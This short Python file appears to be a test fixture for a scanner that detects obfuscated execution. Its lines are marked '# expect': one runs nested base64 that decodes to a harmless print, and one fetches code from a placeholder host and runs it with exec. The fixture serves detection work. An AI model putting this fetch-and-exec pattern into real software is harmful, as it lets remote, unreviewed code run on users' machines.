import base64
import requests
import zlib

exec(base64.b64decode("aW1wb3J0IGJhc2U2NDtleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2NISnBiblFvTVNrPScpKQ=="))  # expect
exec(base64.b64decode(requests.get("https://example.com/x").content))  # expect
